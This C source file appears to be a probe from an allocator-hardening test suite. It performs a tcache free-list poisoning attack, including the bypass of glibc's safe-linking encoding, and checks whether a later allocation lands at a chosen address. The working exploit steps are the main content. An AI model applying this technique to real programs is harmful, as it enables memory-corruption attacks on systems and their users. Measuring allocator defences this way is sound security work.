/* tcache-poison-safelink: free two blocks of the size (a, then b: b heads a LIFO free list), then
 * overwrite b's first word with a chosen static address encoded the way glibc 2.32+ protects its
 * single-linked lists ("safe-linking": the link stored at address pos is (pos >> 12) ^ target). The
 * probe knows b's address, so this is the attacker who has a heap address leak; freelist_poison.c
 * is the one without. That attacker also reads b's link first and writes the target the way the
 * allocator stores it: raw when the link is a's plain address (no safe-linking: writing it encoded
 * would crash and credit the build without the defence), encoded otherwise (encoding= in the result).
 * Primitive: a later allocation returns memory at the chosen address; searched over 100,000
 * allocations. */
#include "probe.h"

int main(int argc, char **argv)
{
    size_t size = probe_size(argc, argv, 64);
    if (size < 8)
        probe_not_applicable(size, "block-smaller-than-a-link");
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    uintptr_t *a = (uintptr_t *)xmalloc(size), *b = (uintptr_t *)xmalloc(size);
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    uintptr_t target = (uintptr_t)(probe_static_area + 4096);
    uintptr_t encoded = ((uintptr_t)b >> 12) ^ target;
    probe_target(b, b + 1);
    probe_mark("setup-done");
    pfree(a);
    pfree(b);
    volatile uintptr_t *vb = (volatile uintptr_t *)launder(b);
    uintptr_t link = vb[0];
    const char *encoding = link == (uintptr_t)a ? "raw"
                           : link == (((uintptr_t)b >> 12) ^ (uintptr_t)a) ? "safe-linking" : "unknown";
    vb[0] = link == (uintptr_t)a ? target : encoded;
    probe_mark("misuse-done");
    struct probe_hunt h;
    int worked = probe_hunt_returned(&h, size);
    probe_result("worked=%d size=%zu step=%lu at_target=%d made=%lu encoding=%s", worked, size,
                 worked ? h.step : 0ul, h.hit == (void *)target, h.made, encoding);
    probe_go_on();
    return 0;
}
